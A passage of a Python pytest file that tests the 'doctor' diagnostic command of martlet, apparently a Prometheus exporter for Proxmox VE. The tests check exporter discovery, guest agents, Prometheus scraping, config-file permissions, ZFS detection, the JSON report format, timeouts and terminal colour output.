        doctor.write((doctor.folder / "martlet.yml").read_text() + f"discovery:\n  networks: [{first}0/24]\n")
        report = json.loads(doctor.run("--json")[1])
    found = next(check for section in report["sections"] for check in section["checks"] if check["check"] == "exporters")
    assert found["details"] == [f"pve1 at {first}1:9100: answers, but with no metrics", f"pve2 at {first}2:9100: answers 404"]
    assert any("another program has the port" in remedy.get("text", "") for remedy in found["remedies"])


def test_programs_hear_of_all_guests(doctor: Doctor, simulate: Any) -> None:
    simulate("--release", "8.4")
    report = json.loads(doctor.run("--json", "--no-exporters")[1])
    found = [check for section in report["sections"] for check in section["checks"] if check["check"] == "agents"]
    assert max(len(check["details"]) for check in found) > 5
    for check in found:
        assert len(check["details"]) == int(check["summary"].split()[0])
    report = json.loads(doctor.run("--json", "--no-exporters", "--guests", "5")[1])
    unread = next(check for section in report["sections"] for check in section["checks"] if check["check"] == "addresses")
    assert len(unread["details"]) == 83


def test_a_real_prometheus(doctor: Doctor, simulate: Any, start: Start) -> None:
    """Its answers are those that the handmade ones stand for."""
    simulate()
    configuration = doctor.folder / "prometheus.yml"
    configuration.write_text(f"scrape_configs:\n  - job_name: martlet\n    static_configs: [{{targets: ['127.0.0.1:{doctor.ports['exporter']}']}}]\n")
    url = f"http://127.0.0.1:{doctor.ports['prometheus']}"
    start(
        shutil.which("prometheus") or "/usr/bin/prometheus", f"--config.file={configuration}", f"--storage.tsdb.path={doctor.folder}/data",
        f"--web.listen-address={url[7:]}").wait_until(url + "/-/ready")  # fmt: skip
    wait_for(lambda: fetch(url + "/api/v1/targets?state=active").json["data"]["activeTargets"], 10, "its target")
    status, text = doctor.run("--guests", "0")
    assert status == 0, text
    assert "prometheus   Prometheus 2." in text
    assert f"it scrapes martlet: http://127.0.0.1:{doctor.ports['exporter']}/metrics" in text
    assert "is prometheus (" in text


def test_modules_and_zfs(doctor: Doctor, tmp_path: Path) -> None:
    modules = doctor.write("default:\n  user: monitor@pve\n  token_name: martlet\n  token_value: " + SECRET + "\n", "pve.yml", 0o644)
    root = tmp_path / "root"
    root.mkdir()
    doctor.names[str(root)] = "root"
    flags = ("--pve.config-file", str(modules), "--exporter.role", "host", "--path.root", str(root))
    doctor.check("modules-and-zfs", *flags, status=3, sections=("cluster", "pve", "zfs"))
    modules.chmod(0o600)
    (root / "proc/spl/kstat/zfs").mkdir(parents=True)
    _, text = doctor.run(*flags, "--pve.allowed-targets", "pve1.example.org")
    assert "ok       modules      1 module from" in text
    assert "PROBLEM  zfs" not in text
    assert "the kernel tells of ZFS" in text


def test_the_report_as_json(doctor: Doctor, simulate: Any) -> None:
    simulate().play("rights-lost")
    status, text = doctor.run("--json", "--guests", "0")
    report = json.loads(text)
    assert status == 3
    assert set(report) == {"format", "martlet", "problems", "warnings", "sections"}
    assert report["format"] == 1
    checks = [check for section in report["sections"] for check in section["checks"]]
    assert all(set(check) == {"check", "state", "summary", "details", "remedies"} for check in checks)
    assert {check["state"] for check in checks} <= {"ok", "information", "warning", "problem", "skipped"}
    assert report["problems"] == sum(check["state"] == "problem" for check in checks)
    assert report["warnings"] == sum(check["state"] == "warning" for check in checks)
    assert node_lines(report) == [
        "pveum acl modify / --users monitor@pve --roles PVEAuditor",
        "pveum acl modify / --tokens 'monitor@pve!martlet' --roles PVEAuditor",
    ]


def test_it_never_hangs(doctor: Doctor) -> None:
    """Whoever takes a connection and says nothing costs no more than the time that was given."""
    with socket.create_server(("127.0.0.1", 0)) as silent:
        port = silent.getsockname()[1]
        doctor.write(cluster(f"https://127.0.0.1:{port}"))
        began = time.monotonic()
        status, text = doctor.run("--timeout", "2s")
        assert status == 3
        assert time.monotonic() - began < 5
        assert "PROBLEM  connection" in text


def test_colours_are_for_terminals(doctor: Doctor) -> None:
    assert "\x1b" not in doctor.run()[1]
    for variables, is_coloured in (({}, True), ({"NO_COLOR": "1"}, False), ({"TERM": "dumb"}, False)):
        parent, child = os.openpty()
        try:
            env = environment_without_settings() | {"TERM": "xterm"} | doctor.env() | variables
            process = subprocess.Popen([MARTLET, "doctor"], cwd=doctor.folder, env=env, stdout=child)
            os.close(child)
            text = b""
            while True:
                try:
                    piece = os.read(parent, 65536)
                except OSError:
                    break
                if not piece:
                    break
                text += piece
            assert process.wait(20) == 3
        finally:
            os.close(parent)
        assert (b"\x1b[31mPROBLEM\x1b[0m" in text) == is_coloured
